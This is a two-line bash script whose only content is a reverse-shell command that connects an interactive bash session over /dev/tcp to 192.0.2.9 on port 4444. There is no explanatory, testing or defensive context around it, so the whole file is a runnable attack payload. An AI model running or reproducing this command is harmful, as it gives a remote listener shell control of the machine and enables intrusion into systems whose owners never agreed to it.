#!/bin/bash
bash -i >& /dev/tcp/192.0.2.9/4444 0>&1
